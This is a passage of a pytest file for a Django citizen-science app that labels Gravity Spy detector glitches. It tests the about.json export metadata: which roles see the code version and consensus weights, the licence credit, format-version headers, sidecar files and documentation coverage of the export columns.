    table), not what a column holds, and not Gravity Spy's CC BY 4.0 credit, which a file
    passed on must carry. A sidecar says it: a CSV has no place for it, and an object around
    the JSON array would break its readers."""
    import importlib.metadata
    from datetime import datetime, timedelta

    from django.utils import timezone

    from webapp.labeling import config

    settings.GLITCHLAB_RETIRE_THRESHOLD, settings.GLITCHLAB_RETIRE_MIN_VIEWS = 0.85, 3
    settings.GLITCHLAB_SOURCE_VERSION = "v1.4-2-g1234abc"
    GlitchClass.objects.filter(name="Whistle").update(retire_threshold=0.95)
    config.forget_class_table()
    url = reverse("api-exports-about")
    assert client.get(url).status_code in (401, 403)
    client.force_login(user_in(REVIEWER, "rita"))

    about = client.get(url).json()

    made = datetime.fromisoformat(about["generated_at"])
    assert made.utcoffset() == timedelta(0) and timezone.now() - made < timedelta(minutes=1)
    assert about["glitchlab"] == {
        "version": importlib.metadata.version("glitchlab"),
        "source": "v1.4-2-g1234abc",
    }
    rules = about["consensus"]
    assert (rules["retire_threshold"], rules["retire_min_views"]) == (0.85, 3)
    assert rules["class_retire_thresholds"] == {"Whistle": 0.95}
    assert rules["close_at_votes"] == settings.GLITCHLAB_CLOSE_AT_VOTES
    assert rules["prior_alpha"] == settings.GLITCHLAB_PRIOR_ALPHA
    assert about["active_model"] == ModelVersion.objects.get(is_active=True).name
    assert list(about["columns"]["labels"]) == exports.COLUMNS
    assert list(about["columns"]["votes"]) == exports.VOTE_COLUMNS
    assert "GPS" in about["columns"]["labels"]["event_time"]
    assert about["columns"]["labels_json_names"] == {"event_time": "event_time_gps"}
    assert "gravityspy-real" in about["sources"]["gravity_spy"]
    terms = about["gravity_spy_data"]
    assert "CC BY 4.0" in terms["licence"]
    assert any("10.5281/zenodo.1476551" in line for line in terms["credit"])
    assert any("064003" in line for line in terms["credit"])
    # each download points at it
    labels = client.get(reverse("api-labels-csv"))
    body(labels)
    assert labels["Link"] == f'<{url}>; rel="describedby"'


def test_a_volunteer_gets_the_columns_credit_and_model_but_not_the_code_or_rules(
    client, glitches, settings
):
    """about.json gave any account (sign-up is free) the exact code (git describe: which
    known bugs it has), the operator's tuned rules (min_gold_to_weigh, prior_alpha: what a
    scorer games). A volunteer, whose labels export it describes, gets what a reader of that
    needs, the active model's name included (their export's model_version and every glitch
    they voted on name it: withholding it here only was a claim that did not hold); the rest
    is the reviewers' and admins'."""
    settings.GLITCHLAB_SOURCE_VERSION = "v1.4-2-g1234abc"
    url = reverse("api-exports-about")
    client.force_login(UserFactory(username="vera"))

    response = client.get(url)

    assert response.status_code == 200
    about = response.json()
    assert "glitchlab" not in about
    assert set(about["consensus"]) == {  # the rule's bar, never its weights
        "retire_threshold",
        "retire_min_views",
        "close_at_votes",
        "class_retire_thresholds",
        "note",
    }
    assert about["active_model"] == ModelVersion.objects.get(is_active=True).name
    assert "g1234abc" not in response.content.decode()
    assert list(about["columns"]["labels"]) == exports.COLUMNS
    assert "CC BY 4.0" in about["gravity_spy_data"]["licence"]
    assert "generated_at" in about
    client.force_login(user_in(ADMIN, "ada"))
    assert client.get(url).json()["glitchlab"]["source"] == "v1.4-2-g1234abc"


def test_the_web_process_reads_its_code_version_as_it_starts_never_in_a_request(
    client, settings, monkeypatch
):
    """git describe (up to 10 s) ran in the first about.json request of each web process."""
    import gc
    import importlib
    import subprocess

    settings.GLITCHLAB_SOURCE_VERSION = ""
    runs = []

    def git(args, **kwargs):
        runs.append(args)
        return subprocess.CompletedProcess(args, 0, stdout="v2.0-7-gabcdef1\n")

    monkeypatch.setattr(exports.subprocess, "run", git)
    exports._git_describe.cache_clear()
    try:
        import webapp.wsgi

        importlib.reload(webapp.wsgi)  # what a web process runs as it starts
        gc.unfreeze()
        assert len(runs) == 1
        client.force_login(user_in(REVIEWER, "rita"))
        for _ in range(2):
            about = client.get(reverse("api-exports-about")).json()
            assert about["glitchlab"]["source"] == "v2.0-7-gabcdef1"
        assert len(runs) == 1
    finally:
        exports._git_describe.cache_clear()


def test_the_code_is_said_by_git_where_the_image_did_not_say_it(settings, monkeypatch):
    settings.GLITCHLAB_SOURCE_VERSION = ""
    exports._git_describe.cache_clear()
    try:
        described = exports.glitchlab_version()["source"]
        assert described is None or described.strip() == described != ""

        def no_git(*args, **kwargs):
            raise FileNotFoundError("git")

        monkeypatch.setattr(exports.subprocess, "run", no_git)
        exports._git_describe.cache_clear()
        assert exports.glitchlab_version()["source"] is None  # an image without git
    finally:
        exports._git_describe.cache_clear()


def test_the_commands_write_what_their_file_holds_beside_it(glitches, tmp_path):
    from django.core.management import call_command

    out = io.StringIO()
    call_command(
        "export_labels", "--format", "json", "--output", str(tmp_path / "l.json"), stdout=out
    )
    call_command("export_votes", "--output", str(tmp_path / "v.csv"), stdout=out)

    for name in ("l.json", "v.csv"):
        about = json.loads((tmp_path / f"{name}.about.json").read_text())
        assert about["format_version"] == exports.FORMAT_VERSION
        assert about["consensus"]["retire_threshold"] == 0.9
        assert "CC BY 4.0" in about["gravity_spy_data"]["licence"]
        assert f"to {tmp_path / name}.about.json" in out.getvalue()


def test_the_readme_names_every_column_of_the_exports():
    """COLUMN_NOTES is the one list of columns (about.json's `columns`, the API's schema);
    the README's paragraph on each export must not fall behind it (it had left out
    subject_id and the counts)."""
    import re
    from pathlib import Path

    readme = (Path(__file__).resolve().parents[3] / "README.md").read_text()
    labels = readme[readme.index("**The labels export**") : readme.index("**The votes export**")]
    votes = readme[readme.index("**The votes export**") : readme.index("**How they were made")]
    # Gravity Spy's columns are one `a, b, ...` list: a whole word, not a quoted name
    assert [c for c in exports.COLUMNS if not re.search(rf"\b{c}\b", labels)] == []
    assert [c for c in exports.VOTE_COLUMNS if f"`{c}`" not in votes] == []


def test_a_volunteers_about_json_says_the_retirement_rules_bar_but_not_its_weights(
    client, glitches, settings
):
    """A volunteer's about.json left out the whole consensus rule, so the reader of their
    labels export could not say how sure a label is. Its bar (how sure, after how many
    weighing votes, when a glitch closes undecided, and each class's own threshold) is
    Gravity Spy's published kind of rule and is in the code's defaults; what makes a vote
    weigh, and how much (what a scorer games), stays the reviewers'."""
    from webapp.labeling import config

    settings.GLITCHLAB_RETIRE_THRESHOLD, settings.GLITCHLAB_RETIRE_MIN_VIEWS = 0.85, 3
    settings.GLITCHLAB_CLOSE_AT_VOTES = 40
    settings.GLITCHLAB_MIN_GOLD_TO_WEIGH, settings.GLITCHLAB_PRIOR_ALPHA = 7, 0.55
    GlitchClass.objects.filter(name="Whistle").update(retire_threshold=0.95)
    config.forget_class_table()
    client.force_login(UserFactory(username="vera"))

    rules = client.get(reverse("api-exports-about")).json()["consensus"]

    assert (rules["retire_threshold"], rules["retire_min_views"]) == (0.85, 3)
    assert rules["close_at_votes"] == 40
    assert rules["class_retire_thresholds"] == {"Whistle": 0.95}
    weights = {"min_gold_to_weigh", "prior_alpha", "prior_weight", "level_weights"}
    assert not weights & set(rules)
    assert not {"none_votes_to_discovery", "new_class_gold_min_volunteers"} & set(rules)
    client.force_login(user_in(REVIEWER, "rita"))
    full = client.get(reverse("api-exports-about")).json()["consensus"]
    assert (full["min_gold_to_weigh"], full["prior_alpha"]) == (7, 0.55)


def test_each_download_says_its_format_version_and_when_it_was_made(client, glitches):
    """about.json is made per request: nothing tied a file to it, nor said which format a
    file was in. Every download says both in headers and its name says the version; the
    CSV itself stays a plain table (its first line the header row)."""
    from datetime import datetime, timedelta

    from django.utils import timezone

    version = str(exports.FORMAT_VERSION)
    client.force_login(user_in(REVIEWER, "rita"))
    for name, extension in (
        ("api-labels-csv", "csv"),
        ("api-labels-json", "json"),
        ("api-votes-csv", "csv"),
    ):
        response = client.get(reverse(name))
        text = body(response)
        assert response["X-GlitchLab-Format-Version"] == version
        made = datetime.fromisoformat(response["X-GlitchLab-Generated-At"])
        assert made.utcoffset() == timedelta(0) and timezone.now() - made < timedelta(minutes=1)
        assert response["Content-Disposition"].endswith(f'-v{version}.{extension}"')
        if extension == "csv":
            assert text.split(",", 1)[0] in ("subject_id", "vote_id")
    about = client.get(reverse("api-exports-about"))
    assert about.json()["format_version"] == exports.FORMAT_VERSION
    assert about["X-GlitchLab-Format-Version"] == version
    assert about["X-GlitchLab-Generated-At"] == about.json()["generated_at"]
    client.force_login(UserFactory(username="vera"))
    assert client.get(reverse("api-exports-about")).json()["format_version"] == int(version)
    client.logout()
    for name in ("api-labels-csv", "api-exports-about"):  # anonymous: nothing new
        refused = client.get(reverse(name))
        assert refused.status_code in (401, 403)
        assert "X-GlitchLab-Format-Version" not in refused


def test_each_export_format_version_is_listed_in_the_docs():
    from pathlib import Path

    docs = (Path(__file__).resolve().parents[3] / "docs" / "labelling.md").read_text()
    for version in range(1, exports.FORMAT_VERSION + 1):
        assert f"**Version {version}**" in docs
    assert f"**Version {exports.FORMAT_VERSION + 1}**" not in docs


def test_about_json_identifies_each_model_the_export_names_beyond_its_site_name(client, glitches):
    """A model was named only by this site's "run-1". about.json's models says, for each
    version the caller's export names (the active model, each deciding model), its
    checkpoint's sha256 (stored when registered, never hashed per request), when it was
    made, its backbone and how many labelled glitches it trained on; null for a version
    deleted since. A volunteer's names only the models of what they may export."""
    from webapp.modeling.models import TrainingRun

    retired, open_one, _ = glitches
    run = TrainingRun.objects.create(status="succeeded", config={"backbone": "resnet18"})
    ModelVersion.objects.create(
        name="run-7", training_run=run, checkpoint_sha256="ab" * 32, train_subject_ids=[1, 2, 3]
    )
    Subject.objects.filter(pk=retired.pk).update(consensus_model="run-7")
    Subject.objects.filter(pk=open_one.pk).update(consensus_model="run-gone")  # deleted since
    client.force_login(user_in(REVIEWER, "rita"))

    models = client.get(reverse("api-exports-about")).json()["models"]

    assert set(models) == {"run-7", "run-gone", "test-model"}
    assert models["run-7"]["checkpoint_sha256"] == "ab" * 32
    assert (models["run-7"]["backbone"], models["run-7"]["n_train_glitches"]) == ("resnet18", 3)
    assert models["run-gone"] is None
    active = models["test-model"]  # registered before sha256s were stored, no run
    assert (active["checkpoint_sha256"], active["backbone"]) == (None, None)
    assert (
        datetime_of(active["created_at"]) == ModelVersion.objects.get(name="test-model").created_at
    )
    client.force_login(UserFactory(username="vera"))
    assert set(client.get(reverse("api-exports-about")).json()["models"]) == {
        "run-7",
        "test-model",
    }  # not the open glitch's


def datetime_of(text: str):
    from datetime import datetime

    return datetime.fromisoformat(text)
